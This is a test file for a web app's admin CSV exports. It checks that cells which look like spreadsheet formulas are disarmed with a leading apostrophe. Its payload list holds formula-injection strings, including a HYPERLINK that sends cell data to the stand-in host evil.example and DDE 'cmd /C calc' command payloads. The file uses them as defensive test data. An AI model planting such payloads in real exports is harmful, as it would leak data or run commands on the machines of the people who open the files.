import { Readable } from "node:stream";
import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import type { AppLoadContext } from "react-router";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { businesses, newsletterSubscribers } from "~/.server/db/schema";
import { openReader, runImport } from "~/features/import/run.server";
import { action as importAction } from "~/routes/admin-import";
import { loader as listingsExport } from "~/routes/admin-listings-export";
import { loader as newsletterExport } from "~/routes/admin-newsletter-export";
import { loader as rejectsLoader } from "~/routes/admin-import-rejects";
import { createApp } from "../../server/http/app";
import { createBusiness } from "../support/factories";
import { createTestServices } from "../support/services";
import { signedInUser } from "../support/users";

/**
 * Issue 37.7: every CSV we hand out (the listings export, the import's rejects file, the newsletter export) disarms a
 * cell a spreadsheet would run as a formula — one starting with =, +, -, @, a tab or a carriage return (and their
 * full-width forms) gets a leading apostrophe; quoting alone does not stop Excel or LibreOffice. The listings export
 * still reads back to the same listings: the import takes the apostrophe off again.
 */

const ORIGIN = "http://near.test";
let ctx: Awaited<ReturnType<typeof createTestServices>>;
let adminCookie = "";
const context = () =>
  ({ ...ctx.services, db: ctx.database.db, nonce: "", requestId: "t", clientIp: "203.0.113.9" }) as AppLoadContext;
const args = (path: string, params: Record<string, string> = {}) =>
  ({
    request: new Request(`${ORIGIN}${path}`, { headers: { cookie: adminCookie } }),
    context: context(),
    params,
  }) as never;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1DSUM(1,2)",
];

/** A spreadsheet runs a cell that starts with one of these; a plain negative number is only a number. */
const LIVE_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

function liveCells(csv: string) {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => LIVE_FORMULA.test(cell) && !isNumber(cell));
}

beforeAll(async () => {
  ctx = await createTestServices({ PUBLIC_URL: ORIGIN, AUTH_RATE_LIMIT: "false" });
  const app = createApp({ services: ctx.services });
  const admin = await signedInUser(app, ctx.database.db, { admin: true });
  adminCookie = [...admin.jar].map(([k, v]) => `${k}=${v}`).join("; ");
});
afterAll(async () => {
  await ctx?.cleanup();
});

describe("37.7 CSV exports disarm spreadsheet formulas", () => {
  it("the listings export prefixes every formula-like cell with an apostrophe", async () => {
    await createBusiness(ctx.database.db, {
      name: PAYLOADS[0],
      description: PAYLOADS[1],
      address: PAYLOADS[2],
      neighborhood: PAYLOADS[3],
      city: PAYLOADS[4],
      phone: PAYLOADS[5],
      subcategory: PAYLOADS[6],
      source: "formula-test",
      externalId: "f-1",
      longitude: -89.65,
      latitude: 39.78,
    });
    const res = (await listingsExport(args("/admin/listings/export?format=csv"))) as Response;
    const csv = await res.text();
    expect(liveCells(csv)).toEqual([]);
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
    for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
    // A negative coordinate is a number, not a formula: it stays as it is.
    expect(cells).toContain("-89.65");
  });

  it("the listings export reads back to the same values (the import takes the apostrophe off)", async () => {
    const values = {
      name: "=1+2 Bar",
      description: "'=already quoted",
      address: "@ 5 Main St",
      neighborhood: "-Downtown-",
      // Stored in E.164 (issue 34): still a leading "+" a spreadsheet would read as a formula.
      phone: "+12175550100",
    };
    await createBusiness(ctx.database.db, { ...values, source: "formula-round-trip", externalId: "rt-1" });
    const csv = await (
      (await listingsExport(args("/admin/listings/export?format=csv&category=restaurants"))) as Response
    ).text();
    const line = csv.split("\r\n").find((l) => l.includes("rt-1"))!;
    expect(line).toContain("'=1+2 Bar");
    expect(line).toContain("''=already quoted");
    const header = csv.split("\r\n")[0]!;
    const summary = await runImport(
      ctx.database.db,
      openReader("csv", Readable.from([`${header}\r\n${line}\r\n`]), { source: "x" }),
      { status: "published", defaultTimezone: "America/Chicago" },
    );
    // Written by the factory, so its first import records a hash ("updated"); the values are what they were.
    expect(summary).toMatchObject({ read: 1, rejected: 0 });
    const [row] = await ctx.database.db.select().from(businesses).where(eq(businesses.externalId, "rt-1"));
    expect(row).toMatchObject(values);
  });

  it("the import's rejects file disarms the external ids it repeats", async () => {
    const printable = PAYLOADS.filter((p) => !/^[\t\r]/.test(p));
    const file =
      "id,name,category,address,city,state,zip\n" +
      printable.map((p) => `"${p.replace(/"/g, '""')}",Rejected,spaceships,1 Main St,Springfield,IL,62701\n`).join("");
    const form = new FormData();
    form.append("file", new File([file], "formulas.csv", { type: "text/csv" }));
    form.append("format", "auto");
    form.append("status", "published");
    const post = (body: FormData | URLSearchParams) =>
      ({
        request: new Request(`${ORIGIN}/admin/import`, { method: "POST", body, headers: { cookie: adminCookie } }),
        context: context(),
        params: {},
      }) as never;
    const redirectOf = async (fn: () => Promise<unknown>) => {
      try {
        return ((await fn()) as Response).headers.get("location")!;
      } catch (error) {
        return (error as Response).headers.get("location")!;
      }
    };
    const uploaded = await redirectOf(() => importAction(post(form)));
    const uploadId = new URL(uploaded, ORIGIN).searchParams.get("upload")!;
    const ran = await redirectOf(() => importAction(post(new URLSearchParams({ intent: "run", uploadId }))));
    const jobId = new URL(ran, ORIGIN).searchParams.get("job")!;
    await ctx.services.imports.settled(jobId);
    const res = (await rejectsLoader(args(`/admin/import/jobs/${jobId}/rejects.csv`, { id: jobId }))) as Response;
    const csv = await res.text();
    expect(csv.startsWith("line,external_id,reason\r\n")).toBe(true);
    expect(liveCells(csv)).toEqual([]);
    const cells = (parse(csv) as string[][]).map((r) => r[1]);
    for (const payload of printable) expect(cells).toContain(`'${payload}`);
  });

  it("the newsletter export disarms a formula-like address", async () => {
    const emails = [
      "=1+1@example.com",
      "+sum@example.com",
      "-x@example.com",
      "@a@example.com",
      "\uFF1Dfull@example.com",
      "plain@example.com",
    ];
    await ctx.database.db.insert(newsletterSubscribers).values(
      emails.map((email, i) => ({
        email,
        tokenHash: `hash-${i}`,
        status: "confirmed" as const,
        confirmedAt: new Date(Date.UTC(2026, 0, 1 + i)),
      })),
    );
    const res = (await newsletterExport(args("/admin/newsletter/export"))) as Response;
    const csv = await res.text();
    expect(liveCells(csv)).toEqual([]);
    expect(parse(csv)).toEqual([
      ["email", "confirmed_at"],
      ["'=1+1@example.com", "2026-01-01T00:00:00.000Z"],
      ["'+sum@example.com", "2026-01-02T00:00:00.000Z"],
      ["'-x@example.com", "2026-01-03T00:00:00.000Z"],
      ["'@a@example.com", "2026-01-04T00:00:00.000Z"],
      ["'\uFF1Dfull@example.com", "2026-01-05T00:00:00.000Z"],
      ["plain@example.com", "2026-01-06T00:00:00.000Z"],
    ]);
  });
});
